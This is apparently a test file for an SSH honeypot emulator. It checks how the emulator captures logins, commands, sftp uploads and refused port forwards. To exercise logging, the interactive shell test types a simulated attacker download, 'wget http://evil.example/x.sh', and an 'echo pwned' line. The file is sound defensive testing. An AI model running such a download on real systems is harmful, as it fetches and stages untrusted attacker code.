// The ssh emulator against the ssh2 client: password, keyboard-interactive,
// public-key attempts, exec, an interactive shell and an sftp upload.
import { test } from 'node:test'
import assert from 'node:assert/strict'
import { createHash, randomBytes } from 'node:crypto'
import { execFileSync } from 'node:child_process'
import { mkdtempSync, readFileSync, writeFileSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import ssh2 from 'ssh2'
import type { ClientChannel, ConnectConfig } from 'ssh2'
import { CLIENT_ADDRESS, startEmulator } from '../../../test/helpers/emulator.js'

const PERSONA = { decky: { hostname: 'db-prod-3', distro: 'debian' } }

function connect(port: number, cfg: Partial<ConnectConfig>): Promise<ssh2.Client> {
  return new Promise((resolve, reject) => {
    const c = new ssh2.Client()
    c.once('ready', () => resolve(c))
    c.on('error', reject) // later errors (resets after a failed login) are not the test's subject
    c.connect({ host: '127.0.0.1', localAddress: CLIENT_ADDRESS, port, readyTimeout: 10_000, ...cfg })
  })
}

function exec(c: ssh2.Client, cmd: string): Promise<{ out: string; err: string; code: number | undefined }> {
  return new Promise((resolve, reject) => {
    c.exec(cmd, (e, stream: ClientChannel) => {
      if (e) return reject(e)
      let out = ''
      let err = ''
      let code: number | undefined
      stream.on('data', (d: Buffer) => (out += d.toString()))
      stream.stderr.on('data', (d: Buffer) => (err += d.toString()))
      stream.on('exit', (c: number) => (code = c))
      stream.on('close', () => resolve({ out, err, code }))
    })
  })
}

test('ssh: password login, exec uname -a fits the persona, events carry exact values', async (t) => {
  const h = await startEmulator(t, 'ssh', { password: 'S3cr3t!' }, PERSONA)
  const c = await connect(h.port(22), { username: 'root', password: 'S3cr3t!' })
  t.after(() => c.end())
  const r = await exec(c, 'uname -a')
  assert.equal(r.out, 'Linux db-prod-3 6.1.0-23-amd64 #1 SMP PREEMPT_DYNAMIC Debian 6.1.99-1 (2024-07-15) x86_64 GNU/Linux\n')
  assert.equal(r.code, 0)
  const auth = await h.sink.next('auth_attempt')
  assert.deepEqual(
    [auth.fields.username, auth.fields.principal, auth.fields.method, auth.fields.secret_printable, auth.fields.secret_kind, auth.fields.outcome, auth.fields.src_ip],
    ['root', 'root', 'password', 'S3cr3t!', 'plaintext', 'success', CLIENT_ADDRESS],
  )
  assert.equal(Buffer.from(auth.fields.secret_b64 as string, 'base64').toString(), 'S3cr3t!')
  const ex = await h.sink.next('exec')
  assert.equal(ex.fields.cmd, 'uname -a')
  const cv = await h.sink.next('client_version')
  assert.match(cv.fields.client_version as string, /^SSH-2\.0-ssh2js/)
  assert.equal(cv.fields.hassh, createHash('md5').update(cv.fields.hassh_algorithms as string).digest('hex'))
  assert.equal((cv.fields.hassh_algorithms as string).split(';').length, 4)
  assert.match(cv.fields.hassh_algorithms as string, /curve25519-sha256/)
  const r2 = await exec(c, 'id; whoami; hostname; cat /etc/hostname; nosuchcmd')
  assert.equal(r2.out, 'uid=0(root) gid=0(root) groups=0(root)\nroot\ndb-prod-3\ndb-prod-3\n')
  assert.equal(r2.err, '-bash: nosuchcmd: command not found\n')
  assert.equal(r2.code, 127)
})

test('ssh: wrong password fails like OpenSSH and is captured; bait user works', async (t) => {
  const h = await startEmulator(t, 'ssh', { password: 'S3cr3t!', user: 'deploy', user_password: 'Summer2024' }, PERSONA)
  ;(await h.ctx.stateDir()) // state dir exists
  await assert.rejects(connect(h.port(22), { username: 'admin', password: 'hunter2' }), /authentication methods failed/)
  const fail = await h.sink.next('auth_attempt', (e) => e.fields.username === 'admin')
  assert.deepEqual([fail.fields.secret_printable, fail.fields.outcome, fail.fields.src_ip], ['hunter2', 'failure', CLIENT_ADDRESS])
  const c = await connect(h.port(22), { username: 'deploy', password: 'Summer2024' })
  t.after(() => c.end())
  const r = await exec(c, 'id')
  assert.equal(r.out, 'uid=1000(deploy) gid=1000(deploy) groups=1000(deploy),27(sudo)\n')
})

test('ssh: keyboard-interactive answers are captured', async (t) => {
  const h = await startEmulator(t, 'ssh', { password: 'S3cr3t!' }, PERSONA)
  const prompts: string[] = []
  const c = await connect(h.port(22), {
    username: 'root',
    authHandler: (_methods, _partial, next) => next({
      type: 'keyboard-interactive', username: 'root',
      prompt: (_name, _instr, _lang, ps, finish) => {
        prompts.push(...ps.map((p) => p.prompt))
        finish(['S3cr3t!'])
      },
    }),
  })
  t.after(() => c.end())
  assert.deepEqual(prompts, ['Password: '])
  const a = await h.sink.next('auth_attempt', (e) => e.fields.method === 'keyboard-interactive')
  assert.deepEqual([a.fields.username, a.fields.secret_printable, a.fields.outcome, a.fields.src_ip], ['root', 'S3cr3t!', 'success', CLIENT_ADDRESS])
})

test('ssh: public-key attempts are logged with the key type and ssh-keygen fingerprint', async (t) => {
  const h = await startEmulator(t, 'ssh', { password: 'S3cr3t!' }, PERSONA)
  const dir = mkdtempSync(join(tmpdir(), 'decnet-sshkey-'))
  t.after(() => rmSync(dir, { recursive: true, force: true }))
  const kp = ssh2.utils.generateKeyPairSync('ed25519', { comment: 'bot@x' })
  writeFileSync(join(dir, 'id.pub'), kp.public + '\n')
  const expected = execFileSync('ssh-keygen', ['-lf', join(dir, 'id.pub')], { encoding: 'utf8' }).split(' ')[1]
  await assert.rejects(connect(h.port(22), { username: 'ubuntu', privateKey: kp.private }), /authentication methods failed/)
  const a = await h.sink.next('auth_attempt', (e) => e.fields.method === 'publickey')
  assert.deepEqual(
    [a.fields.username, a.fields.key_type, a.fields.key_fingerprint, a.fields.secret_kind, a.fields.outcome, a.fields.src_ip],
    ['ubuntu', 'ssh-ed25519', expected, 'ssh_pubkey', 'failure', CLIENT_ADDRESS],
  )
  assert.equal(a.fields.secret_b64, undefined)
})

test('ssh: interactive shell lines become command events; prompt and fs behave', async (t) => {
  const h = await startEmulator(t, 'ssh', { password: 'S3cr3t!' }, PERSONA)
  const c = await connect(h.port(22), { username: 'root', password: 'S3cr3t!' })
  t.after(() => c.end())
  const stream = await new Promise<ClientChannel>((resolve, reject) =>
    c.shell({ term: 'xterm', cols: 120, rows: 40 }, (e, s) => (e ? reject(e) : resolve(s))),
  )
  let out = ''
  stream.on('data', (d: Buffer) => (out += d.toString()))
  const closed = new Promise<void>((resolve) => stream.on('close', () => resolve()))
  const waitFor = async (text: string) => {
    for (let i = 0; i < 200 && !out.includes(text); i++) await new Promise((r) => setTimeout(r, 10))
    assert.ok(out.includes(text), `waiting for ${JSON.stringify(text)} in ${JSON.stringify(out)}`)
  }
  await waitFor('root@db-prod-3:~# ')
  assert.match(out, /^Linux db-prod-3 6\.1\.0-23-amd64 .*\r\n\r\nThe programs included with the Debian GNU\/Linux system/)
  assert.match(out, /Last login: \w{3} \w{3} [ \d]\d \d\d:\d\d:\d\d \d{4} from [\d.]+\r\n/)
  stream.write('cd /tmp\r')
  await waitFor('root@db-prod-3:/tmp# ')
  stream.write('echo pwned > x.sh && cat x.sh\r')
  await waitFor('pwned\r\nroot@db-prod-3:/tmp# ')
  stream.write('wget http://evil.example/x.sh\r')
  await waitFor('unable to resolve host address')
  stream.write('exit\r')
  await closed
  const cmds = h.sink.ofType('command').map((e) => [e.fields.cmd, e.fields.cwd, e.fields.user, e.fields.src_ip])
  assert.deepEqual(cmds, [
    ['cd /tmp', '/root', 'root', CLIENT_ADDRESS],
    ['echo pwned > x.sh && cat x.sh', '/tmp', 'root', CLIENT_ADDRESS],
    ['wget http://evil.example/x.sh', '/tmp', 'root', CLIENT_ADDRESS],
    ['exit', '/tmp', 'root', CLIENT_ADDRESS],
  ])
  const dl = await h.sink.next('download_attempt')
  assert.deepEqual([dl.fields.url, dl.fields.tool], ['http://evil.example/x.sh', 'wget'])
  c.end()
  const rec = await h.sink.next('session_recorded')
  assert.equal(rec.fields.commands, '4')
  // the transcript has the header, the keystrokes and the output of this session
  const file = join(await h.ctx.stateDir(), rec.fields.transcript as string)
  let lines: { sid: string; ch?: string; d?: string; hdr?: { width: number } }[] = []
  for (let i = 0; i < 100; i++) {
    lines = readFileSync(file, 'utf8').trim().split('\n').map((l) => JSON.parse(l) as (typeof lines)[number])
    if (lines.some((l) => l.ch === 'o' && l.d?.includes('logout'))) break
    await new Promise((r) => setTimeout(r, 20))
  }
  assert.ok(lines.every((l) => l.sid === rec.fields.sid))
  assert.equal(lines[0]?.hdr?.width, 120)
  const typed = lines.filter((l) => l.ch === 'i').map((l) => l.d).join('')
  assert.equal(typed, 'cd /tmp\recho pwned > x.sh && cat x.sh\rwget http://evil.example/x.sh\rexit\r')
  assert.match(lines.filter((l) => l.ch === 'o').map((l) => l.d).join(''), /pwned\r\nroot@db-prod-3:\/tmp# /)
})

test('ssh: sftp upload lands in the artifact store with the sent sha256', async (t) => {
  const h = await startEmulator(t, 'ssh', { password: 'S3cr3t!' }, PERSONA)
  const c = await connect(h.port(22), { username: 'root', password: 'S3cr3t!' })
  t.after(() => c.end())
  const sftp = await new Promise<ssh2.SFTPWrapper>((resolve, reject) => c.sftp((e, s) => (e ? reject(e) : resolve(s))))
  const payload = randomBytes(200_000)
  await new Promise<void>((resolve, reject) => sftp.writeFile('/tmp/kit.bin', payload, (e) => (e ? reject(e) : resolve())))
  const art = await h.sink.next('artifact')
  const sha = createHash('sha256').update(payload).digest('hex')
  assert.equal(art.fields.sha256, sha)
  assert.equal(createHash('sha256').update(readFileSync(art.fields.path as string)).digest('hex'), sha)
  assert.deepEqual([art.fields.via, art.fields.orig_path, art.fields.ssh_user, art.fields.src_ip], ['sftp', '/tmp/kit.bin', 'root', CLIENT_ADDRESS])
  // the upload is visible in the fake fs, and listing works
  const names = await new Promise<string[]>((resolve, reject) => sftp.readdir('/tmp', (e, l) => (e ? reject(e) : resolve(l.map((x) => x.filename)))))
  assert.ok(names.includes('kit.bin'))
  const back = await new Promise<Buffer>((resolve, reject) => sftp.readFile('/etc/hostname', (e, b) => (e ? reject(e) : resolve(b))))
  assert.equal(back.toString(), 'db-prod-3\n')
})

test('ssh: port forwards are refused and logged', async (t) => {
  const h = await startEmulator(t, 'ssh', { password: 'S3cr3t!' }, PERSONA)
  const c = await connect(h.port(22), { username: 'root', password: 'S3cr3t!' })
  t.after(() => c.end())
  await assert.rejects(new Promise((resolve, reject) => c.forwardOut('10.0.0.1', 5555, '192.0.2.10', 3306, (e, s) => (e ? reject(e) : resolve(s)))))
  const ev = await h.sink.next('port_forward_refused')
  assert.deepEqual([ev.fields.kind, ev.fields.dest_host, ev.fields.dest_port], ['direct-tcpip', '192.0.2.10', '3306'])
  await assert.rejects(new Promise((resolve, reject) => c.forwardIn('0.0.0.0', 8080, (e) => (e ? reject(e) : resolve(undefined)))))
  const ev2 = await h.sink.next('port_forward_refused', (e) => e.fields.kind === 'tcpip-forward')
  assert.equal(ev2.fields.bind_port, '8080')
})

test('ssh: the sixth failed password on one connection ends it like MaxAuthTries', { timeout: 40_000 }, async (t) => {
  const h = await startEmulator(t, 'ssh', { password: 'S3cr3t!' }, PERSONA)
  let tries = 0
  const err = await new Promise<Error & { code?: number }>((resolve) => {
    const c = new ssh2.Client()
    c.on('error', resolve)
    c.connect({
      host: '127.0.0.1', localAddress: CLIENT_ADDRESS, port: h.port(22), username: 'root', readyTimeout: 30_000,
      authHandler: (_m, _p, next) => next({ type: 'password', username: 'root', password: `guess${++tries}` }),
    })
  })
  assert.equal(err.message, 'Too many authentication failures')
  assert.equal(err.code, 2)
  assert.equal(tries, 6)
  const fails = h.sink.ofType('auth_attempt').map((e) => e.fields.secret_printable)
  assert.deepEqual(fails, ['guess1', 'guess2', 'guess3', 'guess4', 'guess5', 'guess6'])
  await h.sink.next('auth_exhausted')
})
